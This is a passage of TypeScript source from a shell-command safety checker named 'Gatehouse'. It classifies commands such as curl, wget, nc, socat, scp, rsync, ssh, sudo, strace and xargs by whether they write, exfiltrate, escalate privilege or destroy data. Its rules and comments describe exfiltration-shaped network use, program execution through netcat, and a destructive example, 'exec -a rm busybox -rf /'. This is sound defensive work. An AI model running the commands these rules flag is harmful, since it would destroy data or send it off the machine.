        'output-dir',
      ].flatMap((k) => o.values.get(k) ?? [])
    : [
        'O',
        'output-document',
        'o',
        'output-file',
        'a',
        'append-output',
        'save-cookies',
        'rejected-log',
        'hsts-file',
        'P',
        'directory-prefix',
      ].flatMap((k) => o.values.get(k) ?? []);
  // wget --warc-file=NAME writes NAME.warc.gz (and NAME-meta.warc.gz).
  for (const w of o.values.get('warc-file') ?? [])
    outputs.push({ ...w, value: `${w.value}.warc.gz`, text: `${w.text}.warc.gz` });
  // curl -w '%output{FILE}' sends what follows to FILE (curl 8.3).
  for (const w of [...(o.values.get('w') ?? []), ...(o.values.get('write-out') ?? [])])
    if (w.dynamic || w.value.includes('%output{') || w.value.startsWith('@')) cats.add('unknown');
  for (const c of writeTargets(
    outputs.filter((f) => f.value !== '-'),
    ctx,
  ))
    cats.add(c);
  if (isCurl && hasAny(o, 'O', 'remote-name', 'remote-name-all')) cats.add('write');
  if (!isCurl && outputs.length === 0 && !hasAny(o, 'spider')) cats.add('write');
  return withCats(name, [...cats]);
};

/** nc, socat, telnet…: a peer off the loopback interface is exfiltration-shaped. */
const rawNetwork: Rule = (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: 'pswiqIOTVxXePcbo',
    longValued: ['exec', 'sh-exec', 'lua-exec', 'output', 'hex-dump', 'proxy'],
  });
  if (o.dynamic) return verdict(name, [...X, ...U], `${name} is given a word made at run time`);
  // A program run with the connection (netcat-traditional -e/-c, ncat --exec/--sh-exec/--lua-exec);
  // a session written to a file (-o, ncat --output/--hex-dump); a proxy (-x/-X) the data goes through.
  if (hasAny(o, 'e', 'c', 'exec', 'sh-exec', 'lua-exec'))
    return verdict(name, U, `${name} runs a program with the connection`);
  if (hasAny(o, 'x', 'X', 'proxy')) return verdict(name, X, `${name} goes through a proxy`);
  const logs = writeTargets(
    ['o', 'output', 'hex-dump'].flatMap((k) => o.values.get(k) ?? []),
    ctx,
  );
  const hosts = o.operands.filter((w) => !/^\d+(-\d+)?$/.test(w.value));
  const peers = hosts.map((w) => {
    if (w.dynamic) return undefined;
    // socat addresses look like TCP:host:port.
    const parts = w.value.split(/[:,]/);
    return name === 'socat' ? parts[1] : w.value;
  });
  if (
    hasAny(o, 'l', 'listen') ||
    peers.length === 0 ||
    peers.some((h) => h === undefined || !isLoopbackHost(h))
  ) {
    return withCats(name, X, logs);
  }
  return withCats(name, R, logs);
};

/** scp/sftp/rsync: remote `host:path` arguments are exfiltration-shaped. */
const fileTransfer: Rule = (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: name === 'rsync' ? 'eBfT' : 'cFiJloPSDX',
    longValued: [
      'rsh',
      'rsync-path',
      'exclude',
      'include',
      'filter',
      'exclude-from',
      'include-from',
      'files-from',
      'temp-dir',
      'partial-dir',
      'log-file',
      'password-file',
      'backup-dir',
      'suffix',
      'chmod',
      'chown',
      'usermap',
      'groupmap',
    ],
  });
  if (hasAny(o, 'e', 'rsh', 'rsync-path'))
    return verdict(name, U, `${name} runs a remote-shell command given in its options`);
  // `scp -t DIR` is the receiving end of an scp upload (what `scp -O file host:DIR` runs on the host):
  // it writes its operand, and when that is a directory, the files and directories the client's
  // stream names inside it (`C0644 12 .bashrc`), which the command line does not show.
  if (name === 'scp' && !o.dynamic && hasAny(o, 't'))
    return verdict(
      'scp -t',
      [...new Set<ShellCategory>([...X, ...writeTargets(o.operands, ctx), 'write', 'unknown'])],
      'scp -t writes files whose names come from the client, not from the command line',
    );
  if (name === 'sftp' || name === 'scp' || o.dynamic) return verdict(name, X);
  const remote = o.operands.some((w) => w.dynamic || hostOf(w.value) !== undefined || w.value.includes('::'));
  const cats: ShellCategory[] = remote ? [...X] : [];
  if (
    hasAny(
      o,
      'delete',
      'delete-before',
      'delete-during',
      'delete-after',
      'delete-delay',
      'delete-excluded',
      'remove-source-files',
    )
  )
    cats.push('destructive');
  const dest = o.operands.slice(-1).filter((w) => hostOf(w.value) === undefined);
  // A source without a trailing `/` lands in DEST under its own name; with one, its contents do.
  const landed = landedNames(
    o.operands.slice(0, -1).filter((w) => w.dynamic || hostOf(w.value) === undefined),
    dest[0],
    (src) => src.value.endsWith('/'),
    ctx,
  );
  const v = withCats(name, W, cats, writeTargets(dest, ctx), landed.categories);
  return landed.notes.length > 0 ? { ...v, notes: landed.notes } : v;
};

const sshClient: Rule = (args, name, ctx) => {
  const o = scanOptions(args, { shortValued: 'BbcDEeFIiJLlmOoPpQRSWw', stopAtOperand: true });
  if (hasAny(o, 'L', 'R', 'D', 'W', 'w')) return verdict(`${name} -L`, X, 'opens a tunnel');
  const host = o.operands[0];
  const command = o.operands.slice(1);
  if (host === undefined) return verdict(name, R);
  if (command.length === 0) return verdict(name, [...X, ...U], 'an interactive session on another host');
  // ssh joins its command words with spaces and the remote shell parses the result.
  if (command.some((w) => w.dynamic))
    return verdict(name, [...X, ...U], 'the remote command is computed at run time');
  const joined = command.map((w) => w.value).join(' ');
  ctx.nestedLine({ value: joined, dynamic: false, expands: false, text: joined }, 'ssh', X);
  return null;
};

// ---------------------------------------------------------------------------------------------------
// Wrappers: the command they run is what matters, and what their own options do. A wrapper's rule lists
// every option the program has: one it does not list makes the command `unknown` rather than being
// skipped (it may take the next word as its value, so the command run is not the one judged, write a
// file or act on another process: docs/security.md class 154). An option that writes a file is a write
// of that file (`time -o FILE`, `strace -o FILE`), one that acts on a running process is destructive
// as `kill` is (`strace -p PID`), one that runs the command as another user is privilege; the wrapper
// is then listed as a command of its own next to the one it runs, as a redirection is.

/** Every option a wrapper has, and what those that do more than run its command do. */
interface WrapperSpec extends OptionSpec {
  /** Short letters that take no value. */
  readonly shortFlags?: string;
  /** Options whose value is a file the wrapper writes (truncates, or appends to): a write of it. */
  readonly outputs?: readonly string[];
  /** Options that attach to or act on a running process: destructive, as `kill` is. */
  readonly attaches?: readonly string[];
  /** Options that run the command as another user: privilege, as `sudo -u` is. */
  readonly asUser?: readonly string[];
  /** Options whose value is the directory the command starts in (`env -C DIR`); none given: unknown. */
  readonly chdir?: readonly string[];
}

/** What a wrapper's own options do, beside the command it runs. */
interface OwnEffects {
  readonly name: string;
  readonly options: string[];
  readonly cats: Set<ShellCategory>;
  readonly notes: string[];
}

/** An option key as written on a command line (`o` → `-o`, `output` → `--output`). */
const spelled = (key: string): string => (key.length === 1 ? `-${key}` : `--${key}`);

/** The first of `keys` given (a long name also abbreviated), spelled; undefined when none is. */
const givenOption = (o: ScannedOptions, keys: readonly string[] = []): string | undefined => {
  const k = keys.find((key) => hasAny(o, key));
  return k === undefined ? undefined : spelled(k);
};

/** Whether `name` was given as a long option: in full, or abbreviated to no other option's full name. */
function longGiven(o: ScannedOptions, name: string, spec: WrapperSpec): boolean {
  const names = [...(spec.longFlags ?? []), ...(spec.longValued ?? [])];
  return [...o.long].some((g) => g === name || (name.startsWith(g) && !names.includes(g)));
}

const valuesOf = (o: ScannedOptions, keys: readonly string[] = []): WordValue[] =>
  keys.flatMap((k) => [...(o.values.get(k) ?? [])]);

function addOwn(own: OwnEffects, option: string, cats: readonly ShellCategory[], note?: string): void {
  if (cats.length === 0) return;
  for (const c of cats) own.cats.add(c);
  if (option !== '' && !own.options.includes(option)) own.options.push(option);
  if (note !== undefined) own.notes.push(note);
}

/** A directory known only at run time (`nsenter -w` without one: the target process's). */
const RUNTIME_DIR: WordValue = {
  value: '',
  dynamic: true,
  expands: false,
  text: '<a directory set at run time>',
};

/** Scans a wrapper's options (up to its command, unless the spec permutes) and judges its own ones. */
function scanWrapper(
  args: readonly WordValue[],
  spec: WrapperSpec,
  name: string,
  ctx: RuleContext,
): { o: ScannedOptions; own: OwnEffects } {
  const o = scanOptions(args, { stopAtOperand: true, ...spec });
  const own: OwnEffects = { name, options: [], cats: new Set(), notes: [] };
  const unlisted = unlistedOption(
    o,
    `${spec.shortFlags ?? ''}${spec.shortValued ?? ''}${spec.shortOptional ?? ''}`,
    [...(spec.longFlags ?? []), ...(spec.longValued ?? [])],
  );
  if (unlisted !== undefined)
    addOwn(own, unlisted, U, `${name} ${unlisted} is not an option Gatehouse knows`);
  const output = givenOption(o, spec.outputs);
  if (output !== undefined) addOwn(own, output, writeTargets(valuesOf(o, spec.outputs), ctx));
  const attach = givenOption(o, spec.attaches);
  if (attach !== undefined)
    addOwn(
      own,
      attach,
      D,
      `${name} ${attach} attaches to a running process, which it can stop, alter or end`,
    );
  const user = givenOption(o, spec.asUser);
  if (user !== undefined) addOwn(own, user, P, `${name} ${user} runs the command as another user`);
  return { o, own };
}

/** The directory a wrapper's options start its command in, when they name one. */
function chdirOf(o: ScannedOptions, keys: readonly string[] = []): WordValue | undefined {
  if (givenOption(o, keys) === undefined) return undefined;
  return valuesOf(o, keys).at(-1) ?? RUNTIME_DIR;
}

/**
 * The wrapper's own entry: what its options do, on top of `base` (the verdict it has as a command of its
 * own: when it runs none, or is not judged); null when it only runs its command.
 */
function ownVerdict(own: OwnEffects, base?: Verdict): Verdict | null {
  if (own.cats.size === 0) return base ?? null;
  const cats = new Set<ShellCategory>(own.cats);
  for (const c of base?.categories ?? []) if (c !== 'read') cats.add(c);
  return verdict(
    [base?.kind ?? own.name, ...own.options].join(' '),
    [...cats],
    ...(base?.notes ?? []),
    ...own.notes,
  );
}

/** Runs `rest` as the wrapped command; with none, the wrapper's verdict is `alone`. */
function runWrapped(
  rest: readonly WordValue[],
  own: OwnEffects,
  ctx: RuleContext,
  opts: { extra?: readonly ShellCategory[]; alone: Verdict; chdir?: WordValue | undefined },
): Verdict | null {
  if (rest.length === 0) return ownVerdict(own, opts.alone);
  ctx.nested(rest, own.name, opts.extra, opts.chdir);
  return ownVerdict(own);
}

const wrapper =
  (
    spec: WrapperSpec,
    extra: readonly ShellCategory[] = [],
    opts: { skipOperands?: number; alone?: readonly ShellCategory[] } = {},
  ): Rule =>
  (args, name, ctx) => {
    const { o, own } = scanWrapper(args, spec, name, ctx);
    return runWrapped(o.operands.slice(opts.skipOperands ?? 0), own, ctx, {
      extra,
      alone: verdict(name, opts.alone ?? (extra.length > 0 ? extra : R)),
      chdir: chdirOf(o, spec.chdir),
    });
  };

/**
 * Why an environment change a wrapper makes for its command (`NAME=VALUE`, or a bare `NAME` it
 * removes or passes on) is not judged: one that changes which program runs or how a shell reads its
 * lines, or one computed at run time; undefined when it is plain.
 */
function environmentRisk(w: WordValue): string | undefined {
  if (w.dynamic) return `sets an environment variable computed at run time (${w.text})`;
  const eq = w.value.indexOf('=');
  if (eq === -1) return undefined;
  const variable = w.value.slice(0, eq);
  const value = w.expands ? undefined : w.value.slice(eq + 1);
  // A program's environment: only names known to change nothing it runs or writes (class 164).
  return localeChange(variable, value) ?? variableRisk(variable, value, 'environment');
}

/** Whether a word names a shell by a system path (`su -s /bin/bash`) whose -c string Gatehouse parses. */
function isSystemShell(w: WordValue): boolean {
  if (w.dynamic || w.expands) return false;
  const slash = w.value.lastIndexOf('/');
  const dir = slash <= 0 ? '/' : w.value.slice(0, slash);
  return slash !== -1 && STANDARD_BIN_DIRS.has(dir) && POSIX_SHELLS.has(w.value.slice(slash + 1));
}

/** A wrapper that sets something of a running process (`chrt -p PRIO PID`): with one operand it shows. */
function setsRunningProcess(
  o: ScannedOptions,
  own: OwnEffects,
  option: string,
  what: string,
): Verdict | null {
  if (o.operands.length >= 2 || o.dynamic)
    addOwn(own, option, D, `${own.name} ${option} changes ${what} of a running process`);
  return ownVerdict(own, verdict(own.name, R));
}

const SUDO: WrapperSpec = {
  shortFlags: 'AbBEeHiKklNnPSsVv',
  shortValued: 'aCcDgpRrTtUu',
  shortOptional: 'h',
  longFlags: [
    'askpass',
    'background',
    'bell',
    'preserve-env',
    'edit',
    'set-home',
    'help',
    'login',
    'remove-timestamp',
    'reset-timestamp',
    'list',
    'no-update',
    'non-interactive',
    'preserve-groups',
    'stdin',
    'shell',
    'version',
    'validate',
  ],
  longValued: [
    'auth-type',
    'close-from',
    'login-class',
    'chdir',
    'group',
    'host',
    'prompt',
    'chroot',
    'role',
    'type',
    'command-timeout',
    'other-user',
    'user',
  ],
  chdir: ['D', 'chdir'],
};

const sudo: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(args, SUDO, name, ctx);
  if (
    hasAny(
      o,
      'l',
      'list',
      'v',
      'validate',
      'k',
      'K',
      'reset-timestamp',
      'remove-timestamp',
      'V',
      'version',
      'h',
      'help',
    ) &&
    o.operands.length === 0
  ) {
    return ownVerdict(own, verdict(`${name} -l`, R));
  }
  if (hasAny(o, 'e', 'edit')) return ownVerdict(own, withCats(`${name} -e`, P, W));
  if (o.operands.length === 0) {
    return ownVerdict(
      own,
      verdict(`${name} -i`, [...P, ...U], 'a root shell reads commands Gatehouse does not see'),
    );
  }
  ctx.nested(o.operands, name, P, chdirOf(o, SUDO.chdir));
  return ownVerdict(own);
};

/** su and runuser: a -s shell that is not a system shell runs a program instead of parsing -c. */
const suLike =
  (spec: WrapperSpec): Rule =>
  (args, name, ctx) => {
    const { o, own } = scanWrapper(args, spec, name, ctx);
    const shellOption = givenOption(o, ['s', 'shell']);
    const shell = valuesOf(o, ['s', 'shell']).at(-1);
    if (shellOption !== undefined && shell !== undefined && !isSystemShell(shell))
      addOwn(own, shellOption, U, `${name} ${shellOption} runs ${shell.text} in place of a system shell`);
    const cmd = valuesOf(o, ['c', 'command', 'C', 'session-command']);
    if (cmd[0] !== undefined) {
      ctx.nestedLine(cmd[0], `${name} -c`, P);
      return ownVerdict(own);
    }
    if (name === 'runuser') {
      const rest = hasAny(o, 'u', 'user') ? o.operands : o.operands.slice(1);
      if (rest.length > 0) {
        ctx.nested(rest, name, P);
        return ownVerdict(own);
      }
      return ownVerdict(own, verdict(name, [...P, ...U], 'a shell as another user'));
    }
    return ownVerdict(
      own,
      verdict(name, [...P, ...U], 'a shell as another user reads commands Gatehouse does not see'),
    );
  };

const SU_SPEC = {
  shortFlags: 'mpflPhV',
  shortValued: 'cCgGsw',
  longFlags: ['preserve-environment', 'fast', 'login', 'pty', 'help', 'version'],
  longValued: ['command', 'session-command', 'group', 'supp-group', 'shell', 'whitelist-environment'],
} as const;

const su = suLike({ ...SU_SPEC, stopAtOperand: false, alsoOption: (w) => w === '-' });
const runuser = suLike({
  ...SU_SPEC,
  shortValued: `${SU_SPEC.shortValued}u`,
  longValued: [...SU_SPEC.longValued, 'user'],
});

const ENV: WrapperSpec = {
  shortFlags: 'i0v',
  shortValued: 'uCS',
  longFlags: [
    'ignore-environment',
    'null',
    'debug',
    'list-signal-handling',
    'help',
    'version',
    // Their signal names are optional, written `--block-signal=INT`.
    'block-signal',
    'default-signal',
    'ignore-signal',
  ],
  longValued: ['unset', 'chdir', 'split-string'],
  alsoOption: (w) => w === '-',
  chdir: ['C', 'chdir'],
};

const envRule: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(args, ENV, name, ctx);
  if (hasAny(o, 'S', 'split-string'))
    return ownVerdict(own, verdict(name, U, 'env -S splits a string into a command'));
  const rest = [...o.operands];
  const risks: string[] = [];
  while (rest[0] !== undefined && !rest[0].dynamic && /^[A-Za-z_][A-Za-z0-9_]*=/.test(rest[0].value)) {
    const eq = rest[0].value.indexOf('=');
    const variable = rest[0].value.slice(0, eq);
    const value = rest[0].expands ? undefined : rest[0].value.slice(eq + 1);
    const risk = localeChange(variable, value) ?? variableRisk(variable, value, 'environment');
    if (risk !== undefined) risks.push(risk);
    rest.shift();
  }
  if (rest[0]?.dynamic === true && /^[A-Za-z_][A-Za-z0-9_]*=/.test(rest[0].text)) {
    return ownVerdict(own, verdict(name, U, 'env sets a variable computed at run time'));
  }
  // The command is judged as it is; an environment that may change what it does is unknown too.
  for (const risk of risks) addOwn(own, '', U, risk);
  // env -C DIR runs the command in DIR (its relative paths start there), and only that command.
  const dir = chdirOf(o, ENV.chdir);
  return runWrapped(rest, own, ctx, { alone: verdict(name, risks.length > 0 ? U : R), chdir: dir });
};

const TIMEOUT: WrapperSpec = {
  shortFlags: 'v',
  shortValued: 'sk',
  longFlags: ['preserve-status', 'foreground', 'verbose', 'help', 'version'],
  longValued: ['signal', 'kill-after'],
};

/** ionice -p/-P/-u acts on running processes (the operands are more of them) and runs nothing. */
const ionice: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(
    args,
    {
      shortFlags: 'thV',
      shortValued: 'cnpPu',
      longFlags: ['ignore', 'help', 'version'],
      longValued: ['class', 'classdata', 'pid', 'pgid', 'uid'],
    },
    name,
    ctx,
  );
  const targets = givenOption(o, ['p', 'P', 'u', 'pid', 'pgid', 'uid']);
  if (targets === undefined) return runWrapped(o.operands, own, ctx, { alone: verdict(name, R) });
  if (hasAny(o, 'c', 'n', 'class', 'classdata'))
    addOwn(own, targets, D, `${name} ${targets} changes the I/O priority of running processes`);
  return ownVerdict(own, verdict(name, R));
};

const chrt: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(
    args,
    {
      shortFlags: 'bdfiorRampvhV',
      shortValued: 'TPD',
      longFlags: [
        'batch',
        'deadline',
        'fifo',
        'idle',
        'other',
        'rr',
        'reset-on-fork',
        'all-tasks',
        'max',
        'pid',
        'verbose',
        'help',
        'version',
      ],
      longValued: ['sched-runtime', 'sched-period', 'sched-deadline'],
    },
    name,
    ctx,
  );
  if (hasAny(o, 'm', 'max')) return ownVerdict(own, verdict(name, R));
  const pid = givenOption(o, ['p', 'pid']);
  if (pid !== undefined) return setsRunningProcess(o, own, pid, 'the scheduling policy');
  // `chrt [options] PRIORITY COMMAND…`; a first operand that is no number is the command.
  const first = o.operands[0];
  const skip = first !== undefined && !first.dynamic && /^\d+$/.test(first.value) ? 1 : 0;
  return runWrapped(o.operands.slice(skip), own, ctx, { alone: verdict(name, R) });
};

const taskset: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(
    args,
    { shortFlags: 'apchV', longFlags: ['all-tasks', 'pid', 'cpu-list', 'help', 'version'] },
    name,
    ctx,
  );
  const pid = givenOption(o, ['p', 'pid']);
  if (pid !== undefined) return setsRunningProcess(o, own, pid, 'the CPUs');
  return runWrapped(o.operands.slice(1), own, ctx, { alone: verdict(name, R) });
};

const timeoutRule: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(args, TIMEOUT, name, ctx);
  return runWrapped(o.operands.slice(1), own, ctx, { alone: verdict(name, R) });
};

const XARGS: WrapperSpec = {
  shortFlags: '0oprtx',
  shortValued: 'adEILnPs',
  // -e[EOF], -i[REPLACE], -l[LINES]: a value only in the same word.
  shortOptional: 'eil',
  longFlags: [
    'null',
    'open-tty',
    'interactive',
    'no-run-if-empty',
    'show-limits',
    'verbose',
    'exit',
    'help',
    'version',
    'eof',
    'replace',
    'max-lines',
  ],
  longValued: ['arg-file', 'delimiter', 'max-args', 'max-procs', 'max-chars', 'process-slot-var'],
};

const xargs: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(args, XARGS, name, ctx);
  // --process-slot-var=PATH sets PATH to a number in the command's environment: `./0/cmd` runs.
  for (const v of valuesOf(o, ['process-slot-var'])) {
    const risk = environmentRisk({ ...v, value: `${v.value}=0` });
    if (risk !== undefined) addOwn(own, '--process-slot-var', U, `${name} --process-slot-var ${risk}`);
  }
  const dynamicArg: WordValue = {
    value: '<stdin>',
    dynamic: true,
    expands: false,
    text: '<arguments from stdin>',
  };
  const rest =
    o.operands.length === 0
      ? [{ value: 'echo', dynamic: false, expands: false, text: 'echo' }]
      : [...o.operands];
  // Arguments read from stdin are appended (or substituted for the -I string, `{}` for a bare -i or
  // --replace): known only at run time.
  const replaceWord = valuesOf(o, ['I', 'replace', 'i']).at(-1);
  const replace = replaceWord ?? (hasAny(o, 'i', 'replace') ? { value: '{}', dynamic: false } : undefined);
  const words =
    replace !== undefined
      ? rest.map((w, i) =>
          i > 0 && (replace.dynamic || w.value.includes(replace.value))
            ? { ...w, dynamic: true, value: w.text }
            : w,
        )
      : [...rest, dynamicArg];
  ctx.nested(words, name);
  return ownVerdict(own);
};

const watch: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(
    args,
    {
      shortFlags: 'bcCefgprtwxhv',
      shortValued: 'nqs',
      shortOptional: 'd',
      longFlags: [
        'beep',
        'color',
        'no-color',
        'differences',
        'errexit',
        'follow',
        'chgexit',
        'exec',
        'precise',
        'no-rerun',
        'no-title',
        'no-wrap',
        'help',
        'version',
      ],
      longValued: ['interval', 'equexit', 'shotsdir'],
      // Screenshots of the screen are written there.
      outputs: ['s', 'shotsdir'],
    },
    name,
    ctx,
  );
  if (o.operands.length === 0) return ownVerdict(own, verdict(name, R));
  if (hasAny(o, 'x', 'exec')) return runWrapped(o.operands, own, ctx, { alone: verdict(name, R) });
  if (o.operands.some((w) => w.dynamic))
    return ownVerdict(own, verdict(name, U, 'the watched command is computed at run time'));
  // Without -x, watch joins its words and runs them with `sh -c`.
  const joined = o.operands.map((w) => w.value).join(' ');
  ctx.nestedLine({ value: joined, dynamic: false, expands: false, text: joined }, name);
  return ownVerdict(own);
};

const flock: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(
    args,
    {
      shortFlags: 'sxenoFuhV',
      shortValued: 'wE',
      longFlags: [
        'shared',
        'exclusive',
        'unlock',
        'nonblocking',
        'nonblock',
        'close',
        'no-fork',
        'verbose',
        'help',
        'version',
      ],
      longValued: ['timeout', 'wait', 'conflict-exit-code'],
    },
    name,
    ctx,
  );
  // `flock FILE COMMAND…` and `flock FILE -c COMMAND` create FILE when it is missing (a lock file);
  // `flock FD` locks a descriptor the shell opened.
  const file = o.operands[0];
  if (file !== undefined && o.operands.length > 1) addOwn(own, '', writeTargets([file], ctx));
  const c = o.operands[1];
  const cmd =
    c !== undefined && !c.dynamic && (c.value === '-c' || c.value === '--command')
      ? o.operands.slice(2, 3)
      : undefined;
  if (cmd?.[0] !== undefined) {
    ctx.nestedLine(cmd[0], `${name} -c`);
    return ownVerdict(own);
  }
  return runWrapped(o.operands.slice(1), own, ctx, { alone: verdict(name, R) });
};

const commandBuiltin: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(args, { shortFlags: name === 'command' ? 'pvV' : '' }, name, ctx);
  if (hasAny(o, 'v', 'V')) return ownVerdict(own, verdict(`${name} -v`, R));
  return runWrapped(o.operands, own, ctx, { alone: verdict(name, R) });
};

const execBuiltin: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(args, { shortFlags: 'cl', shortValued: 'a' }, name, ctx);
  // The name a program is told it runs as is what a multi-call binary runs: `exec -a rm busybox -rf /`.
  if (hasAny(o, 'a'))
    addOwn(own, '-a', U, `${name} -a gives the program another name, which multi-call programs run as`);
  return runWrapped(o.operands, own, ctx, { alone: verdict(name, R) });
};

/** busybox and toybox options that only list or explain. */
const MULTICALL_LISTING: ReadonlySet<string> = new Set([
  '--list',
  '--list-full',
  '--long',
  '--help',
  '--version',
]);

const busybox: Rule = (args, name, ctx) => {
  const first = args[0];
  if (first === undefined) return verdict(name, R);
  if (first.dynamic || !first.value.startsWith('-')) {
    ctx.nested(args, name);
    return null;
  }
  if (MULTICALL_LISTING.has(first.value)) return verdict(name, R);
  if (name === 'busybox' && first.value === '--install') {
    // Links every applet into DIR, or into the system directories each one belongs in.
    const dirs = args.slice(1).filter((w) => w.dynamic || w.value !== '-s');
    return withCats(`${name} --install`, W, dirs.length > 0 ? writeTargets(dirs, ctx) : P);
  }
  return verdict(name, U, `${name} ${first.text} is not an option Gatehouse knows`);
};

/** strace -e qualifiers that only choose what is shown; `inject` and `fault` tamper. */
const STRACE_QUALIFIERS: ReadonlySet<string> = new Set(
  (
    'trace t trace-fd trace-fds fd fds abbrev a verbose v raw x signal signals s status quiet silent silence q ' +
    'read reads r write writes w kvm decode-fd decode-fds decode-pid decode-pids secontext'
  ).split(' '),
);

const STRACE: WrapperSpec = {
  shortFlags: 'AcCdDfFhiknqrtTvVwxyYzZ',
  shortValued: 'abeEIoOpPsSuUX',
  longFlags: [
    'output-append-mode',
    'summary-only',
    'summary',
    'debug',
    'daemonize',
    'daemonised',
    'daemonized',
    'follow-forks',
    'output-separately',
    'help',
    'instruction-pointer',
    'kill-on-exit',
    'stack-trace',
    'stack-traces',
    'syscall-number',
    'relative-timestamps',
    'absolute-timestamps',
    'timestamps',
    'syscall-times',
    'no-abbrev',
    'version',
    'summary-wall-clock',
    'strings-in-hex',
    'pidns-translation',
    'successful-only',
    'failed-only',
    'failing-only',
    'seccomp-bpf',
    'tips',
    'quiet',
    'silent',
    'silence',
    'decode-fds',
    'secontext',
  ],
  longValued: [
    'columns',
    'detach-on',
    'env',
    'interruptible',
    'stack-trace-frame-limit',
    'syscall-limit',
    'output',
    'summary-syscall-overhead',
    'attach',
    'trace-path',
    'string-limit',
    'summary-sort-by',
    'user',
    'summary-columns',
    'const-print-style',
    'argv0',
    'trace',
    'trace-fds',
    'abbrev',
    'verbose',
    'raw',
    'signal',
    'signals',
    'status',
    'read',
    'write',
    'fault',
    'inject',
    'kvm',
    'decode-pids',
  ],
  attaches: ['p', 'attach'],
  asUser: ['u', 'user'],
};

const strace: Rule = (args, name, ctx) => {
  const { o, own } = scanWrapper(args, STRACE, name, ctx);
  // -o FILE truncates FILE (appends with -A); -o '|CMD' or '!CMD' pipes the trace into `sh -c CMD`;
  // with -ff (--output-separately) the files are FILE.PID, named only at run time.
  const output = givenOption(o, ['o', 'output']);
  const files: WordValue[] = [];
  for (const v of valuesOf(o, ['o', 'output'])) {
    if (!v.dynamic && (v.value.startsWith('|') || v.value.startsWith('!')))
      ctx.nestedLine({ ...v, value: v.value.slice(1) }, `${name} -o |`);
    else files.push(v);
  }
  if (output !== undefined && files.length > 0) {
    addOwn(own, output, writeTargets(files, ctx));
    if ((o.short.get('f') ?? 0) >= 2 || longGiven(o, 'output-separately', STRACE))
      addOwn(
        own,
        output,
        U,
        `${name} -ff ${output} writes one file per process, FILE.PID, named only at run time`,
      );
  }
  // -e inject=…/fault=… (--inject, --fault) makes system calls fail, return forged values or have their
  // arguments rewritten: in the traced command, or in a process it attached to.
  let tampers = hasAny(o, 'inject', 'fault');
  for (const e of valuesOf(o, ['e'])) {
    if (e.dynamic) {
      addOwn(own, '-e', U, `the ${name} -e expression is computed at run time`);
      continue;
    }
    const eq = e.value.indexOf('=');
    const qualifier = eq === -1 ? 'trace' : e.value.slice(0, eq);
    if (qualifier === 'inject' || qualifier === 'fault') tampers = true;
    else if (!STRACE_QUALIFIERS.has(qualifier))
      addOwn(own, '-e', U, `${name} -e ${qualifier}= is not a qualifier Gatehouse knows`);
  }
  if (tampers) {
    const option = givenOption(o, ['inject', 'fault']) ?? '-e';
    addOwn(
      own,
      option,
      D,
      `${name} ${option} tampers with system calls: they fail, return forged values or have their arguments rewritten`,
    );
  }
  for (const v of valuesOf(o, ['E', 'env'])) {
    const risk = environmentRisk(v);
    if (risk !== undefined) addOwn(own, '-E', U, `${name} -E ${risk}`);
  }
  if (hasAny(o, 'argv0'))
    addOwn(
      own,
      '--argv0',
      U,
      `${name} --argv0 gives the program another name, which multi-call programs run as`,
    );
  return runWrapped(o.operands, own, ctx, { alone: verdict(name, R) });
};

const LTRACE: WrapperSpec = {
  shortFlags: 'bcCfhiLrStTV',
  shortValued: 'aADeFlnopsuxXw',
  longFlags: ['demangle', 'help', 'version', 'no-signals'],
  longValued: ['align', 'config', 'debug', 'indent', 'library', 'output', 'where'],
  outputs: ['o', 'output'],
  attaches: ['p'],
  asUser: ['u'],
};

const TIME: WrapperSpec = {
  shortFlags: 'apqvVh',
  shortValued: 'fo',
  longFlags: ['append', 'portability', 'quiet', 'verbose', 'help', 'version'],
  longValued: ['format', 'output'],
  outputs: ['o', 'output'],
};

/** Why a program run on a terminal a wrapper makes (script -c, unbuffer) is not judged. */
const PTY_KEYS = (name: string): string =>
  `${name} runs the command on a terminal of its own whose keys come from its input, and what is typed there (a pager's !cmd, an editor's commands) is not decided`;

/** script writes a typescript: FILE, its log options' files, or ./typescript when none is named. */
const script: Rule = (args, name, ctx) => {
  const LOGS = ['I', 'O', 'B', 'T', 't', 'log-in', 'log-out', 'log-io', 'log-timing', 'timing'];
  const { o, own } = scanWrapper(
    args,
    {
      shortFlags: 'aefqhV',
      shortValued: 'cEIOBTmo',
      shortOptional: 't',
      longFlags: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version', 'timing'],
      longValued: [
        'command',
        'echo',
        'log-in',
        'log-out',
        'log-io',
        'log-timing',
        'logging-format',
        'output-limit',
      ],
      stopAtOperand: false,
    },
    name,
    ctx,
  );
  const files = [...valuesOf(o, LOGS), ...o.operands.slice(0, 1)];
  if (o.operands.length === 0 && !hasAny(o, 'I', 'O', 'B', 'log-in', 'log-out', 'log-io'))
    files.push({ value: 'typescript', dynamic: false, expands: false, text: 'typescript' });
  if (!hasAny(o, 'help', 'h', 'version', 'V')) addOwn(own, '', writeTargets(files, ctx));
  const cmd = valuesOf(o, ['c', 'command']);
  if (cmd[0] !== undefined) {
    // The command runs on a terminal script makes, whose keys are script's input: an exec's input,
    // or a pipe the line writes. A pager, editor or full-screen program reading them runs what they
    // say (`less`'s `!cmd`), as on an exec with a terminal, which is not decided either.
    addOwn(own, '-c', U, PTY_KEYS(name));
    ctx.nestedLine(cmd[0], `${name} -c`);
    return ownVerdict(own);
  }
  if (hasAny(o, 'help', 'h', 'version', 'V')) return ownVerdict(own, verdict(name, R));
  return ownVerdict(own, verdict(name, U, 'script starts an interactive shell'));
};

const CONTAINER_EXEC: WrapperSpec = {
  shortFlags: 'ditl',
  shortValued: 'euw',
  longFlags: ['detach', 'interactive', 'tty', 'privileged', 'latest', 'help'],
  longValued: ['env', 'env-file', 'user', 'workdir', 'detach-keys', 'preserve-fds'],
  asUser: ['u', 'user'],
};

const containerExec: Rule = (args, name, ctx) => {
